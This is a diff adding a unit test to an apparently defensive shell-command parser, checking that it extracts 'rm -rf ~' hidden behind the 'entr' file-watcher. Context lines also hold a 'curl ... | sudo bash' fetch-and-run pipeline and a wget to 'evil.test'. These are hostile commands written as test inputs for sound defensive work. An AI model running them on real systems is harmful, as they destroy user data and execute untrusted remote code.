@@ -95,6 +95,13 @@ def test_a_launchers_clustered_option_takes_the_next_word_as_its_value(command: 
     assert parse_command("nice -n5 rm x").components[0].argv == ("rm", "x")
 
 
+def test_entr_runs_its_command_whenever_a_file_changes() -> None:
+    assert [c.argv for c in parse_command("ls | entr -c rm -rf ~").components] == [
+        ("ls",), ("rm", "-rf", "~")]
+    # with -s its one argument is a shell command line, read as one
+    assert parse_command("ls | entr -s 'rm -rf ~'").components[-1].argv == ("rm", "-rf", "~")
+
+
 def test_pipelines_and_urls() -> None:
     parsed = parse_command("curl -fsSL https://Get.Example/x | sudo bash && wget evil.test/y")
     assert parsed.pipelines == ("curl -fsSL https://Get.Example/x | bash",)
